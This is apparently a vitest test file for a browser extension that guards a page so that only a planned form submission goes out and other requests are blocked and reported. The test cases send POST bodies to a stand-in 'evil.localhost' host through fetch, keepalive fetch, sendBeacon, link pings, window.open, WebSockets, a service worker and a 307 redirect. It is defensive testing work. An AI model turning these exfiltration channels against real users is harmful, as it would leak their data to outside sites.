import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { WebSocketServer } from 'ws';
import type { Submission } from '../../lib/model/index.ts';
import type { Tab } from '../browsers.ts';
import { type Listening, listen } from '../servers/http.ts';
import { setProbe } from './probe.ts';
import { BROWSER, IN_ONE_BROWSER, rowsHere } from './stage.ts';

const probe = setProbe();

let server: Listening;
let port = '';
const asked: string[] = [];

const at = (host: string, path: string): string => `http://${host}:${port}${path}`;
const SHOP = 'shop.localhost';
const PAY = 'pay.localhost';
const EVIL = 'evil.localhost';

const HELD = '/held.js';
let holding: Promise<void> = Promise.resolve();

const WORKER = `addEventListener('message', ({ data }) =>
  fetch(data, { method: 'POST', mode: 'no-cors', body: 'x' }).catch(() => {}));`;

const payment = (): string => `<iframe src="/frame"></iframe>
  <iframe src="${at('captcha.localhost', '/frame')}"></iframe>
  <form method="post" action="${at('bank.localhost', '/confirm')}"></form>
  <script>fetch('/own', { method: 'POST' }).then(() => document.forms[0].submit())</script>`;

const handOver = (): string =>
  `<script src="${HELD}"></script><form method="post" action="${at(PAY, '/begin')}"></form><script>document.forms[0].submit()</script>`;

function bodyOf(pathname: string): string {
  if (pathname === '/pay') return payment();
  if (pathname === '/hand-over') return handOver();
  if (pathname === '/map')
    return `<script src="${HELD}"></script><iframe src="${at('map.localhost', '/frame')}"></iframe>`;
  return `<h1>${pathname}</h1>`;
}

function answer({ method, url = '', headers }: IncomingMessage, response: ServerResponse): void {
  const { pathname, searchParams } = new URL(url, 'http://x');
  if (pathname === HELD) return void holding.then(() => response.end());
  if (pathname === '/worker.js') {
    response.writeHead(200, { 'content-type': 'text/javascript' }).end(WORKER);
    return;
  }
  if (pathname !== '/' && pathname !== '/favicon.ico') asked.push(`${method} ${nameOf(headers.host)}${url}`);
  const status = /^\/(30[37])$/.exec(pathname)?.[1];
  if (status) response.writeHead(Number(status), { location: searchParams.get('to') ?? '' }).end();
  else response.writeHead(200, { 'content-type': 'text/html' }).end(bodyOf(pathname));
}

const nameOf = (host = ''): string => host.replace(/:\d+$/, '');

beforeAll(async () => {
  const created = createServer(answer);
  new WebSocketServer({ server: created }).on('connection', (socket, { headers, url }) => {
    asked.push(`WS ${nameOf(headers.host)}${url}`);
    socket.close();
  });
  server = await listen(created);
  port = new URL(server.origin).port;
});
afterAll(() => server.close());
beforeEach(() => {
  asked.length = 0;
});

const post = (url: string): Submission => ({
  kind: 'form',
  method: 'post',
  url,
  enctype: 'application/x-www-form-urlencoded',
  target: '',
  fields: ['item'],
});
const get = (url: string): Submission => ({ ...post(url), method: 'get' }) as Submission;

async function guarded(submission: Submission, host = SHOP): Promise<Tab> {
  const pageUrl = at(host, '/');
  const tab = await probe.driver.open(pageUrl);
  await probe.call('guard', tab.id, { pageUrl, submission });
  return tab;
}

interface Form {
  readonly action: string;
  readonly method?: 'get' | 'post';
  readonly target?: string;
  readonly frame?: string;
}

/** A driver may lose the page's result if the page unloads. */
async function submit(tab: Tab, form: Form): Promise<void> {
  const begun = tab.evaluate(({ action, method = 'post', target = '', frame }) => {
    if (frame) document.body.append(Object.assign(document.createElement('iframe'), { name: frame }));
    const made = Object.assign(document.createElement('form'), { action, method, target });
    made.innerHTML = '<input name="item" value="tea">';
    document.body.append(made);
    setTimeout(() => made.submit(), 50);
  }, form);
  await Promise.race([begun.catch(() => undefined), settle()]);
}

const settle = (): Promise<void> => new Promise((resolve) => setTimeout(resolve, 1_000));
const until = (what: string): Promise<unknown> => expect.poll(() => asked.join('\n')).toContain(what);

const urlOf = (place: string): string =>
  place.replaceAll(/(?<=^|=)(?:shop|pay|evil)(?=\/)/g, (host) => at(`${host}.localhost`, ''));
function planOf(text: string): Submission {
  const [method, place = ''] = text.split(' ');
  return (method === 'GET' ? get : post)(urlOf(place));
}
function formOf(text: string): Form {
  const [method = '', place = '', target = ''] = text.split(' ');
  const isGet = method === 'GET';
  return {
    action: urlOf(place),
    method: isGet ? 'get' : 'post',
    target,
    ...(target === 'f' && { frame: 'f' }),
  };
}

type Planned = [what: string, plan: string, form?: string, arrives?: readonly string[]];
type Stopped = [what: string, plan: string | (() => Submission), form: string, stopped?: string];
type Sent = [what: string, work: (url: string) => unknown];

describe('a planned request is sent', () => {
  const planned: readonly Planned[] = [
    ['a POST', 'POST shop/order?a=1'],
    ['a POST to another site', 'POST pay/order'],
    ['a form whose method is GET', 'GET shop/find?old=1', 'GET shop/find', ['GET shop/find?item=tea']],
    ['a GET form to another site, in a frame', 'GET pay/find', 'GET pay/find f', ['GET pay/find?item=tea']],
    ['a POST in a frame', 'POST pay/order', 'POST pay/order f'],
    ['a POST in a new tab', 'POST pay/order', 'POST pay/order _blank'],
    ['an address with an asterisk', 'POST shop/a*b/(c)?d=$|'],
    [
      'a redirect after POST to the own site',
      'POST shop/303?to=/done',
      undefined,
      ['POST shop/303?to=/done', 'GET shop/done'],
    ],
  ];
  it.each(rowsHere(planned, 'a POST', 'a POST in a frame', 'a POST in a new tab'))(
    '%s',
    async (_, plan, form = plan, arrives = [plan]) => {
      const tab = await guarded(planOf(plan));
      await submit(tab, formOf(form));
      for (const one of arrives) await until(one.replace('/', '.localhost/'));
      expect(await probe.call('blocked', tab.id)).toEqual([]);
      await probe.call('release', tab.id);
      await tab.close();
    },
  );

  it('a redirect after POST to a payment page, and all requests of the payment page', async () => {
    const plan = at(SHOP, `/303?to=${at(PAY, '/pay')}`);
    const tab = await guarded(post(plan));
    await submit(tab, { action: plan });
    for (const one of [
      'GET pay.localhost/pay',
      'GET pay.localhost/frame',
      'GET captcha.localhost/frame',
      'POST pay.localhost/own',
      'POST bank.localhost/confirm',
    ])
      await until(one);
    await probe.call('release', tab.id);
    await tab.close();
  });

  it.each([
    ['frames another site', '/map', 'GET map.localhost/frame'],
    ['hands over to another site', '/hand-over', 'POST pay.localhost/begin'],
  ])('a page as the answer that %s', async (_, path, arrives) => {
    const held = Promise.withResolvers<void>();
    if (BROWSER === 'chromium') holding = held.promise;
    const tab = await guarded(post(at(SHOP, path)));
    await submit(tab, { action: at(SHOP, path) });
    await expect.poll(() => probe.call('rules')).not.toContain('block');
    held.resolve();
    await until(arrives);
    await tab.close();
  });

  it('requests of the page to its own site, and reads of other sites', async () => {
    const tab = await guarded(post(at(SHOP, '/order')));
    await tab.evaluate(
      async (other) => {
        await fetch('/own', { method: 'POST' });
        navigator.sendBeacon('/beacon', 'x');
        await fetch(other, { mode: 'no-cors' });
      },
      at(EVIL, '/read'),
    );
    await until('POST shop.localhost/beacon');
    expect(asked).toEqual(
      expect.arrayContaining([
        'POST shop.localhost/own',
        'POST shop.localhost/beacon',
        'GET evil.localhost/read',
      ]),
    );
    await probe.call('release', tab.id);
    await tab.close();
  });
});

describe('an unplanned request is stopped, and reported', () => {
  const ORDER = 'POST shop/order';
  const stopped: readonly Stopped[] = [
    ['another address', ORDER, 'POST evil/a'],
    ['another path of the own site', ORDER, 'POST shop/delete'],
    ['another query', ORDER, 'POST shop/order?all=1', 'shop/order'],
    ['a path that only begins so', ORDER, 'POST shop/order/cancel'],
    ['a path in other case', ORDER, 'POST shop/ORDER'],
    ['what an asterisk of the address could stand for', 'POST shop/a*z', 'POST shop/abcz'],
    ['POST where GET is planned', 'GET shop/order', ORDER],
    ['a new tab', ORDER, 'POST evil/b _blank'],
    ['a new tab by GET', ORDER, 'GET evil/c _blank'],
    ['a frame', ORDER, 'POST evil/d f'],
    ['a frame by GET', ORDER, 'GET evil/e f'],
    ['a redirect that sends the body on', 'POST shop/307?to=evil/f', 'POST shop/307?to=evil/f', 'evil/f'],
    [
      'any form where a dialog is closed',
      () => ({ ...planOf(ORDER), method: 'dialog' }) as Submission,
      ORDER,
    ],
    ['another site where the page’s script decides', () => ({ kind: 'script' }), 'POST evil/g'],
    [
      'POST where a link is planned',
      () => ({ kind: 'link', url: at(SHOP, '/about'), target: '' }),
      'POST shop/about',
    ],
  ];
  it.each(
    rowsHere(stopped, 'another address', 'a new tab by GET', 'a frame', 'a redirect that sends the body on'),
  )('%s', async (_, plan, form, where = form.split(' ')[1]!) => {
    const tab = await guarded(typeof plan === 'string' ? planOf(plan) : plan());
    await submit(tab, formOf(form));
    await expect.poll(() => probe.call('blocked', tab.id)).toEqual([urlOf(where)]);
    expect(asked.filter((one) => !one.includes('/307'))).toEqual([]);
    await probe.call('release', tab.id);
    await tab.close();
  });

  const sent: readonly Sent[] = [
    ['fetch', (url) => fetch(url, { method: 'POST', mode: 'no-cors', body: 'x' }).catch(() => 0)],
    [
      'a fetch that outlives the page',
      (url) => fetch(url, { method: 'POST', mode: 'no-cors', keepalive: true }).catch(() => 0),
    ],
    ['sendBeacon', (url) => navigator.sendBeacon(url, 'x')],
    // By default, Firefox sends no pings.
    [
      'a link with ping',
      (url) => {
        const link = Object.assign(document.createElement('a'), { href: '#here', ping: url });
        document.body.append(link);
        link.click();
      },
    ],
    ['window.open', (url) => void window.open(url)],
    ['a WebSocket', (url) => void new WebSocket(url.replace('http', 'ws'))],
    [
      'a service worker',
      async (url) => {
        await navigator.serviceWorker.register('/worker.js');
        (await navigator.serviceWorker.ready).active?.postMessage(url);
      },
    ],
  ];
  it.each(
    rowsHere(
      sent,
      'fetch',
      'a fetch that outlives the page',
      'sendBeacon',
      'window.open',
      'a WebSocket',
      'a service worker',
    ),
  )('%s of the page to another site', async (what, work) => {
    const tab = await guarded(planOf(ORDER));
    const url = at(EVIL, '/x');
    await tab.evaluate(work, url);
    const address = what.includes('WebSocket') ? url.replace('http', 'ws') : url;
    await expect.poll(() => probe.call('blocked', tab.id)).toEqual([address]);
    expect(asked).toEqual([]);
    await probe.call('release', tab.id);
    await tab.evaluate(work, at(EVIL, '/free'));
    await until('evil.localhost/free');
    expect(asked).toHaveLength(1);
    await tab.close();
  });

  it.runIf(IN_ONE_BROWSER)('of a page without a document id, known by its URL', async () => {
    const tab = await guarded(post(at('127.0.0.1', '/order')), '127.0.0.1');
    await submit(tab, { action: at(EVIL, '/h'), target: '_blank' });
    await expect.poll(() => probe.call('blocked', tab.id)).toEqual([at(EVIL, '/h')]);
    expect(asked).toEqual([]);
    await probe.call('release', tab.id);
    await tab.close();
  });
});

describe('the end of a guard', () => {
  it('comes at the next start if the worker died', async () => {
    const tab = await guarded(post(at(SHOP, '/order')));
    expect(await probe.call('rules')).toContain('block');
    await probe.driver.killWorker();
    expect(await probe.call('rules')).toContain('block');
    await probe.call('releaseGuards');
    expect(await probe.call('rules')).not.toContain('block');
    await submit(tab, { action: at(EVIL, '/a') });
    await until('POST evil.localhost/a');
    await tab.close();
  });

  it('isn’t caused by the end of another guard, or by other rules', async () => {
    const [tab, other] = [await guarded(post(at(SHOP, '/order'))), await guarded(post(at(SHOP, '/else')))];
    await probe.call('release', other.id);
    await probe.call('releaseGuards');
    await probe.call('read', at(PAY, '/read'), 'lens');
    await submit(tab, { action: at(EVIL, '/a') });
    await expect.poll(() => probe.call('blocked', tab.id)).toEqual([at(EVIL, '/a')]);
    await probe.call('release', tab.id);
    await tab.close();
    await other.close();
  });
});
